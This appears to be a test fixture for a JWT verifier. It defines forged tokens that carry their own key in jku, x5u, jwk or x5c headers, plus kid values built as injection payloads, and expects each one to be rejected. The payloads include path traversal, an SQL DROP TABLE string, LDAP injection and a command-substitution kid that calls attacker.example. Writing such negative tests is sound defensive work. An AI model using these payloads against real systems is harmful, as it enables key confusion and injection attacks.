/** Tokens that would choose the key themselves (RFC 7515 §4.1.2–§4.1.6, RFC 8725 §3.10). */
import { generateKeyPairSync, sign } from 'node:crypto'
import { forged, minted } from './token-case.ts'
import type { MakeToken, TokenCase } from './token-case.ts'

const attacker = generateKeyPairSync('ec', { namedCurve: 'P-256' })
const jwk = { ...attacker.publicKey.export({ format: 'jwk' }), alg: 'ES256', use: 'sig' }
const der = attacker.publicKey.export({ type: 'spki', format: 'der' }).toString('base64')

/** A kid that the attacker's key would have, wherever it is looked for. */
const KID = 'attacker'

const byAttacker = (header: Readonly<Record<string, unknown>>): MakeToken =>
  forged(header, (input) =>
    sign('sha256', Buffer.from(input), { key: attacker.privateKey, dsaEncoding: 'ieee-p1363' }),
  )

/** Where an attacker would publish a key; a test listens there. */
export const attackersHeaders = (
  address: string,
): readonly (readonly [what: string, header: Readonly<Record<string, unknown>>])[] => [
  ['jku', { jku: `${address}/jwks` }],
  ['jku and its own kid', { jku: `${address}/jwks`, kid: KID }],
  ['jku and no kid', { jku: `${address}/jwks`, kid: undefined }],
  ['x5u', { x5u: `${address}/certificate` }],
  ['iss in the header', { iss: address, kid: KID }],
  ['a kid that is an address', { kid: `${address}/jwks` }],
]

export const signedByAttacker = byAttacker
export const attackersKeySet = { keys: [{ ...jwk, kid: KID }] }

const own: TokenCase[] = [
  ['its own key in jwk', 'token-bad-signature', byAttacker({ jwk }), 15],
  ['its own key in jwk and no kid', 'token-key-unknown', byAttacker({ jwk, kid: undefined }), 15],
  ['its own key in jwk under its own kid', 'token-key-unknown', byAttacker({ jwk, kid: KID }), 15],
  ['its own key in x5c', 'token-bad-signature', byAttacker({ x5c: [der] })],
  [
    'its own key in x5c and a thumbprint',
    'token-bad-signature',
    byAttacker({ x5c: [der], x5t: 'x', 'x5t#S256': 'x' }),
  ],
  ['a private key in jwk', 'token-bad-signature', byAttacker({ jwk: { ...jwk, d: 'AQ' } })],
  ['a symmetric key in jwk', 'token-bad-signature', byAttacker({ jwk: { kty: 'oct', k: 'AQ' } })],
]

const unknown = 'token-key-unknown'
const withKid = (kid: unknown): MakeToken => minted({ header: { kid }, signer: 'stranger' })

const kids: TokenCase[] = [
  ['kid of a file', unknown, withKid('../../../../dev/null'), 16],
  ['kid of a file and a NUL', unknown, withKid('../../dev/null\0es-1')],
  ['kid of SQL', unknown, withKid("' UNION SELECT 'AQ'; DROP TABLE SigningKey --"), 16],
  ['kid of a command', unknown, withKid('$(curl attacker.example)|id')],
  ['kid of LDAP', unknown, withKid('*)(uid=*))(|(uid=*')],
  ['kid 1', unknown, withKid(1), 16],
  ['kid 0', unknown, withKid(0)],
  ['kid null', unknown, withKid(null)],
  ['kid true', unknown, withKid(true)],
  ['kid of nothing', unknown, withKid('')],
  ['kid in a list', unknown, minted(({ key }) => ({ header: { kid: [key.kid] } }))],
  ['kid in an object', unknown, minted(({ key }) => ({ header: { kid: { kid: key.kid } } }))],
  ['kid __proto__', unknown, withKid('__proto__')],
  ['kid constructor', unknown, withKid('constructor')],
  ['kid in capitals', unknown, minted(({ key }) => ({ header: { kid: key.kid?.toUpperCase() } }))],
  ['kid and a space', unknown, minted(({ key }) => ({ header: { kid: `${key.kid} ` } }))],
  ['kid and a line end', unknown, minted(({ key }) => ({ header: { kid: `${key.kid}\n` } }))],
  ['kid of 8 kB', unknown, withKid('k'.repeat(8_000)), 16],
  ['kid of 30 kB, in a form', unknown, withKid('k'.repeat(30_000)), 16],
  ['no kid, as two keys fit', unknown, minted({ header: { kid: undefined } }), 17],
]

export const keys: readonly TokenCase[] = [...own, ...kids]
